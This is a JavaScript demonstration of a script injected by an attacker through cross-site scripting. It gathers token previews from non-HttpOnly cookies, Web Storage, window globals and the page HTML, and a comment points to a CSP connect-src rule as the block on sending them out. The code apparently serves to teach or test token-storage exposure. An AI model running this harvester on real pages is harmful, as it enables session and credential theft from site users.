(() => {
  // The attacker's injected script. It runs with the page's own rights and
  // collects every token a script can read; a real one would then send the
  // loot to the attacker's site (which the page's Content-Security-Policy
  // connect-src is there to refuse).
  const loot = [];
  const jwt = /eyJ[\w-]*\.[\w-]*\.[\w-]*/g;
  const take = (place, token) => loot.push({ place, preview: `${token.slice(0, 12)}…` });
  const search = (place, text) => {
    for (const match of String(text ?? '').matchAll(jwt)) take(place, match[0]);
  };

  // 1. Cookies: only those without HttpOnly are in document.cookie.
  for (const pair of document.cookie.split('; ').filter(Boolean)) {
    const [name, ...value] = pair.split('=');
    const text = value.join('=');
    if (/token/i.test(name) && text) take(`document.cookie (${name})`, text);
  }
  // 2. Web Storage: readable by every script of the origin.
  for (const storage of ['localStorage', 'sessionStorage']) {
    const store = window[storage];
    for (let i = 0; i < store.length; i += 1) {
      const key = store.key(i);
      const value = store.getItem(key) ?? '';
      // An opaque token (a refresh token) under a telling name.
      if (/token/i.test(key) && value && !value.includes('eyJ')) take(`${storage}.${key}`, value);
      search(`${storage}.${key}`, value);
    }
  }
  // 3. Global variables and the page itself.
  for (const name of Object.keys(window)) {
    try {
      const value = window[name];
      if (typeof value === 'string') search(`window.${name}`, value);
      else if (value && typeof value === 'object' && value !== window) {
        search(`window.${name}`, JSON.stringify(value));
      }
    } catch (_) {
      // Cyclic or cross-origin objects: nothing to read there.
    }
  }
  search('the page (outerHTML)', document.documentElement.outerHTML);
  return loot;
})()
